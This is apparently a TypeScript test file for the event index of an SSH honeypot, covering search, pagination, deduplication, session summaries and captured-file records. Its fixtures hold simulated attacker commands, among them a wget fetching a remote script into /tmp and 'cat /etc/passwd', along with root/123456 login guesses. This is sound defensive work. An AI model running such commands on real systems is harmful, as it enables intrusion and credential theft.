import assert from "node:assert/strict";
import { type TestContext, test } from "node:test";
import type { Event } from "../../events/event.ts";
import { Visits } from "../testing/visits.ts";
import { IndexReader } from "./index-reader.ts";
import { Ingest } from "./ingest.ts";
import { momentOf, momentOfMs } from "./moment.ts";
import { openTemporary } from "./schema.ts";

function indexOf(context: TestContext, events: readonly Event[]): { readonly reader: IndexReader; readonly ingest: Ingest } {
  const database = openTemporary();
  context.after(() => database.close());
  const ingest = new Ingest(database);
  ingest.apply([{ series: "evidence", events: events.map((event) => JSON.stringify(event)), next: 100 }]);
  return { reader: new IndexReader(database), ingest };
}

const ids = (events: readonly Event[]) => events.map(({ id }) => id);

test("the newest come first, page by page, and each is as it was", (context) => {
  const visits = new Visits();
  const events = Array.from({ length: 60 }, (_, index) => visits.visit(`192.0.2.${index}`, `echo ${index}`)).flat();
  const { reader } = indexOf(context, events);
  assert.deepEqual(reader.events({ limit: 1000 }), events.toReversed());
  const pages: Event[] = [];
  for (let page = reader.events(); page.length > 0; page = reader.events({ after: page.at(-1)?.id ?? "" })) pages.push(...page);
  assert.deepEqual(ids(pages), ids(events.toReversed()));
  const upwards = reader.events({ order: "oldest", limit: 2 });
  assert.deepEqual(ids(reader.events({ order: "oldest", limit: 2, after: upwards[1]?.id ?? "" })), ids(events.slice(2, 4)));
});

test("every condition of a query narrows it", (context) => {
  const visits = new Visits();
  const early = visits.visit("192.0.2.1", "wget http://198.51.100.7/x.sh -O /tmp/x");
  visits.wait(3_600_000);
  const late = visits.visit("192.0.2.2", "uname -a; cat /proc/cpuinfo");
  const { reader } = indexOf(context, [...early, ...late]);
  assert.deepEqual(ids(reader.events({ kind: "command.input" })), ids([late[2], early[2]].flatMap((event) => event ?? [])));
  assert.deepEqual(reader.events({ kind: "tunnel.data" }), []);
  assert.deepEqual(ids(reader.events({ source: "192.0.2.1" })), ids(early.toReversed()));
  assert.deepEqual(ids(reader.session(late[0]?.session ?? "")), ids(late));
  assert.deepEqual(ids(reader.events({ since: "2026-01-02T10:30:00Z" })), ids(late.toReversed()));
  assert.deepEqual(ids(reader.events({ until: "2026-01-02T10:30:00Z" })), ids(early.toReversed()));
  assert.equal(reader.events({ source: "192.0.2.1", kind: "command.input", text: "wget" }).length, 1);
  assert.equal(reader.events({ source: "192.0.2.2", text: "wget" }).length, 0);
});

test("text finds words, addresses, paths and beginnings, in any order, and takes nothing for an operator", (context) => {
  const { reader } = indexOf(context, new Visits().visit("192.0.2.1", "wget http://198.51.100.7/Bins/größe.x86 OR 'NEAR(' \"quoted\""));
  for (const text of [
    "wget",
    "198.51.100.7",
    "/bins/größe.x86",
    "x86 wget",
    "http://198.51.100.7/Bins",
    "quot*",
    "GROSSE.X86*",
    "OR",
    "NEAR(",
    '"quoted"',
    "grosse".replace("ss", "ss"),
  ]) {
    const expected = text.toLowerCase().startsWith("grosse") ? 0 : 1;
    assert.equal(reader.events({ text }).length, expected, text);
  }
  for (const text of ["wge", "198.51.100.8", "curl", "wget curl", "-wget", "NOT wget", '"', "*", "", "()"])
    assert.doesNotThrow(() => reader.events({ text }), text);
  assert.equal(reader.events({ text: "wget curl" }).length, 0);
});

test("what comes twice is counted once", (context) => {
  const events = new Visits().visit("192.0.2.1", "id");
  const { reader, ingest } = indexOf(context, events);
  ingest.apply([{ series: "evidence", events: events.map((event) => JSON.stringify(event)), next: 200 }]);
  assert.equal(reader.events().length, 4);
  assert.equal(reader.summary(events[0]?.session ?? "")?.events, 4);
  assert.equal(
    reader.counts().reduce((sum, { count }) => sum + count, 0),
    4,
  );
  assert.deepEqual(reader.cursors(), { evidence: 200, traffic: 0, health: 0 });
});

test("different events of one moment all have a place, and pages don't lose any", (context) => {
  const [event] = new Visits().visit("192.0.2.1", "id");
  assert.ok(event);
  const same = Array.from({ length: 9 }, (_, index) => ({ ...event, id: `${event.id.slice(0, -1)}${index}` }));
  const { reader } = indexOf(context, same);
  assert.equal(new Set(same.map(({ id }) => momentOf(id))).size, 1);
  const found: string[] = [];
  for (let page = reader.events({ limit: 2 }); page.length > 0; page = reader.events({ limit: 2, after: page.at(-1)?.id ?? "" }))
    found.push(...ids(page));
  assert.deepEqual(found.sort(), ids(same));
});

test("a visit's summary grows with its events, in whatever batches they come", (context) => {
  const visits = new Visits();
  const events = visits.visit("192.0.2.1", "cat /etc/passwd");
  const { reader, ingest } = indexOf(context, events.slice(0, 2));
  const id = events[0]?.session ?? "";
  assert.equal(reader.summary(id)?.closed, false);
  ingest.apply([{ series: "evidence", events: events.slice(2).map((event) => JSON.stringify(event)), next: 200 }]);
  assert.deepEqual(reader.sessions(), [
    {
      id,
      start: events[0]?.time,
      end: events[3]?.time,
      closed: true,
      events: 4,
      attempts: 1,
      credentials: [{ user: "root", password: "123456", method: "password", accepted: true }],
      commands: 1,
      lines: ["cat /etc/passwd"],
      downloads: [],
      files: [],
      terminals: [],
      bytesIn: 100,
      bytesOut: 200,
      decoy: "ssh",
      transport: "tcp",
      source: { address: "192.0.2.1", port: 40_000 },
      destination: { address: "203.0.113.1", port: 22 },
    },
  ]);
});

test("a visit with a thousand guesses keeps the first few, and the one that got in", (context) => {
  const visits = new Visits();
  const place = visits.context("192.0.2.1");
  const events = Array.from({ length: 1_000 }, (_, index) =>
    visits.seal(
      { kind: "auth.attempt", fields: { method: "password", user: "root", password: `guess ${index}`, accepted: index === 999 } },
      place,
    ),
  );
  const { reader } = indexOf(context, events);
  const [summary] = reader.sessions();
  assert.equal(summary?.attempts, 1_000);
  assert.equal(summary?.credentials.length, 32);
  assert.deepEqual(summary?.credentials.at(-1), { user: "root", password: "guess 999", method: "password", accepted: true });
});

test("visits are listed by source, decoy and time, newest first, page by page", (context) => {
  const visits = new Visits();
  const first = visits.visit("192.0.2.1", "one");
  visits.wait(3_600_000);
  const second = visits.visit("192.0.2.2", "two");
  const { reader } = indexOf(context, [...first, ...second]);
  const [one = "", two = ""] = [first[0]?.session, second[0]?.session];
  const listed = (query: Parameters<IndexReader["sessions"]>[0]) => reader.sessions(query).map(({ id }) => id);
  assert.deepEqual(listed({}), [two, one]);
  assert.deepEqual(listed({ after: two }), [one]);
  assert.deepEqual(listed({ source: "192.0.2.1" }), [one]);
  assert.deepEqual(listed({ since: "2026-01-02T10:30:00Z" }), [two]);
  assert.deepEqual(listed({ until: "2026-01-02T10:30:00Z" }), [one]);
  assert.deepEqual(listed({ decoy: "telnet" }), []);
});

test("files are listed once, with every visit that brought them", (context) => {
  const visits = new Visits();
  const fields = { sha256: "ab".repeat(32), size: 7, name: "/tmp/x", way: "scp", truncated: false, duplicate: false };
  const places = [visits.context("192.0.2.1"), visits.context("192.0.2.2")];
  const events = places.map((place) => visits.seal({ kind: "file.captured", fields }, place));
  const { reader } = indexOf(context, events);
  const [file] = reader.files();
  assert.deepEqual(file, {
    sha256: "ab".repeat(32),
    size: 7,
    first: events[0]?.time,
    last: events[1]?.time,
    times: 2,
    name: "/tmp/x",
    way: "scp",
    sessions: places.map(({ session }) => session).toReversed(),
  });
  assert.deepEqual(reader.file("ab".repeat(32)), file);
  assert.equal(reader.file("cd".repeat(32)), undefined);
});

test("counts are by hour, kind and decoy", (context) => {
  const visits = new Visits();
  const events = [...visits.visit("192.0.2.1", "one"), ...visits.visit("192.0.2.1", "two")];
  visits.wait(3_600_000);
  const { reader } = indexOf(context, [...events, ...visits.visit("192.0.2.1", "three")]);
  const commands = reader.counts().filter(({ kind }) => kind === "command.input");
  assert.deepEqual(commands, [
    { hour: "2026-01-02T10:00:00.000Z", kind: "command.input", decoy: "ssh", count: 2 },
    { hour: "2026-01-02T11:00:00.000Z", kind: "command.input", decoy: "ssh", count: 1 },
  ]);
  assert.deepEqual(
    reader.counts({ since: "2026-01-02T11:00:00Z", until: "2026-01-02T12:00:00Z" }).map(({ hour }) => hour),
    new Array(4).fill("2026-01-02T11:00:00.000Z"),
  );
});

test("moments are in the order of the ids, and far-off times stay within what a number holds", () => {
  const events = Array.from({ length: 500 }, () => new Visits().visit("192.0.2.1", "x")).flat();
  const byId = events.toSorted((one, other) => (one.id < other.id ? -1 : 1)).map(({ id }) => momentOf(id));
  assert.deepEqual(
    byId,
    byId.toSorted((one, other) => one - other),
  );
  assert.equal(momentOfMs(0), 0);
  assert.ok(Number.isSafeInteger(momentOf("ffffffff-ffff-7fff-bfff-ffffffffffff") + 1_000));
});
